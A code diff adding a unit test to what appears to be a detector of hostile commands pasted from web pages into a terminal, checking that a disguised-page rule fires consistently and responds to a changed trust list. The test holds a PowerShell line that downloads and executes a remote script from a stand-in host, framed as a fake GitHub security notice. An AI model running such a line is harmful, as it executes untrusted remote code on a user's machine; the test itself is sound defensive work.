@@ -449,3 +449,20 @@ def test_any_page_address_gives_a_verdict_for_a_terminal_paste(engine: Engine, p
         Context(source=page, target=TERMINAL),
     )
     assert verdict.level >= Level.INFO
+
+
+def test_a_page_read_before_is_read_again_with_another_trust_list() -> None:
+    """The engine keeps what a page's address says, by address; a new trust list (policy,
+    intel updates assign one) reads it afresh, and the same page gives the same verdict."""
+    from app.detection import Context, Engine, PasteTarget
+    from app.detection.trust import TrustList
+
+    engine = Engine()
+    page = Context("https://github-security-notice.example/verify", PasteTarget.TERMINAL)
+    text = "irm https://cdn.files-host.example/a.ps1 | iex"
+    first = engine.analyze(text, page)
+    assert "PG-PAGE-DISGUISED" in {f.rule_id for f in first.findings}
+    again = engine.analyze(text, page)
+    assert [f.rule_id for f in again.findings] == [f.rule_id for f in first.findings]
+    engine.trust = TrustList()  # borrows no company's name
+    assert "PG-PAGE-DISGUISED" not in {f.rule_id for f in engine.analyze(text, page).findings}
